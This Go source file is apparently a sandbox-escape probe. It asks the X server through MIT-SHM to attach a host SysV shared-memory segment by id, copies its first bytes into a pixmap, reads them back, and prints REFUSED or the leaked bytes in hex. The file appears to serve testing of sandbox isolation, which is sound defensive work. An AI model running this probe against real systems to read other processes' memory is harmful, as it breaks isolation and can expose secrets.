// Command shmprobe is an X client an attacker would run inside a sandbox:
// it asks the sandbox's X server to attach the SysV shared memory segment
// with the given id (MIT-SHM ShmAttach) and copies its first bytes into a
// pixmap it then reads back, i.e. it tries to read host shared memory
// through the X server. It prints REFUSED, or DATA <hex>.
package main

import (
	"encoding/hex"
	"fmt"
	"os"
	"strconv"

	"github.com/jezek/xgb"
	"github.com/jezek/xgb/shm"
	"github.com/jezek/xgb/xproto"
)

func main() {
	id, err := strconv.Atoi(os.Args[1])
	if err != nil {
		fmt.Println("usage: shmprobe SHMID")
		os.Exit(2)
	}
	c, err := xgb.NewConn()
	if err != nil {
		fmt.Println("NOX", err)
		os.Exit(3)
	}
	defer c.Close()
	if err := shm.Init(c); err != nil {
		fmt.Println("REFUSED no MIT-SHM:", err)
		return
	}
	seg, _ := shm.NewSegId(c)
	if err := shm.AttachChecked(c, seg, uint32(id), true).Check(); err != nil {
		fmt.Println("REFUSED", err)
		return
	}
	screen := xproto.Setup(c).DefaultScreen(c)
	pix, _ := xproto.NewPixmapId(c)
	if err := xproto.CreatePixmapChecked(c, screen.RootDepth, pix, xproto.Drawable(screen.Root), 16, 1).Check(); err != nil {
		fmt.Println("ERR pixmap", err)
		os.Exit(4)
	}
	gc, _ := xproto.NewGcontextId(c)
	_ = xproto.CreateGCChecked(c, gc, xproto.Drawable(pix), 0, nil).Check()
	if err := shm.PutImageChecked(c, xproto.Drawable(pix), gc, 16, 1, 0, 0, 16, 1, 0, 0, screen.RootDepth,
		xproto.ImageFormatZPixmap, 0, seg, 0).Check(); err != nil {
		fmt.Println("REFUSED put", err)
		return
	}
	img, err := xproto.GetImage(c, xproto.ImageFormatZPixmap, xproto.Drawable(pix), 0, 0, 16, 1, 0xffffffff).Reply()
	if err != nil {
		fmt.Println("ERR get", err)
		os.Exit(5)
	}
	fmt.Println("DATA", hex.EncodeToString(img.Data))
}
